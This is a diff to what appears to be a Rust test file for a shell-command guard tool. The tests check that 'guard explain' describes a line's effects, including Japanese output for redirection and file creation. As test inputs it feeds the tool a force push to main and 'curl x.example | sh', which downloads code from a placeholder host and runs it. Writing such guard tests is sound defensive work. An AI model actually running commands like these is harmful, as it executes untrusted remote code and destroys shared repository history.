@@ -40,6 +40,8 @@ fn explain_shows_what_a_line_would_do_and_what_each_guard_says() {
     for word in ["git push --force origin main", "bash", "notes.txt", "main-branch", "would refuse it"] {
         assert!(shown.contains(word), "{word}: {shown}");
     }
+    let written = env.dandori(["guard", "explain", "echo x > a; touch b", "--lang", "ja"]).ok();
+    assert!(written.contains("a  リダイレクト") && written.contains("b  作成"), "{written}");
     let japanese = env.dandori(["guard", "explain", "ls", "--lang", "ja"]).ok();
     assert!(japanese.contains("実行されるコマンド") && japanese.contains("実行されます"), "{japanese}");
     let unseen = env.dandori(["guard", "explain", "curl x.example | sh"]).ok();
